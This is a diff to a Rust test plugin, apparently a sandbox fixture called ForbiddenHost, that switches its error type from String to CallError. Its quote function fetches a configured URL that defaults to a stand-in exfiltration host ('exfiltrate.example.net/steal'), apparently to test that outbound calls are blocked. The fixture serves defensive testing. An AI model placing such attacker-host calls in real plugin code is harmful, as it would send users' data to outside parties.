@@ -3,9 +3,9 @@
 //! quote whose breakdown shows the response status.
 
 use powerbank_plugin_sdk::pricing::{
-    BreakdownLine, ExtensionRequest, Guest, OverdueCharge, OverdueRequest, PluginInfo, PluginKind, Quote, QuoteRequest,
+    BreakdownLine, ExtensionRequest, Guest, OverdueCharge, OverdueRequest, Quote, QuoteRequest,
 };
-use powerbank_plugin_sdk::{config, http, plugin_info};
+use powerbank_plugin_sdk::{CallError, PluginInfo, PluginKind, config, http, plugin_info};
 
 struct ForbiddenHost;
 
@@ -14,11 +14,11 @@ impl Guest for ForbiddenHost {
         plugin_info!(PluginKind::Pricing)
     }
 
-    fn self_check() -> Result<(), String> {
+    fn self_check() -> Result<(), CallError> {
         Ok(())
     }
 
-    fn quote(_request: QuoteRequest) -> Result<Quote, String> {
+    fn quote(_request: QuoteRequest) -> Result<Quote, CallError> {
         let url = config::get("target_url").unwrap_or_else(|| "https://exfiltrate.example.net/steal".to_string());
         match http::get(&url) {
             Ok(response) => Ok(Quote {
@@ -29,16 +29,16 @@ impl Guest for ForbiddenHost {
                 }],
                 due_minutes: 60,
             }),
-            Err(e) => Err(format!("http-fetch {url} failed: {e:?}")),
+            Err(e) => Err(CallError::Unavailable(format!("http-fetch {url} failed: {e:?}"))),
         }
     }
 
-    fn price_extension(_request: ExtensionRequest) -> Result<i64, String> {
+    fn price_extension(_request: ExtensionRequest) -> Result<i64, CallError> {
         Ok(0)
     }
 
-    fn overdue_charge(_request: OverdueRequest) -> Result<OverdueCharge, String> {
-        Err("not implemented".to_string())
+    fn overdue_charge(_request: OverdueRequest) -> Result<OverdueCharge, CallError> {
+        Err(CallError::NotSupported("not implemented".to_string()))
     }
 }
 
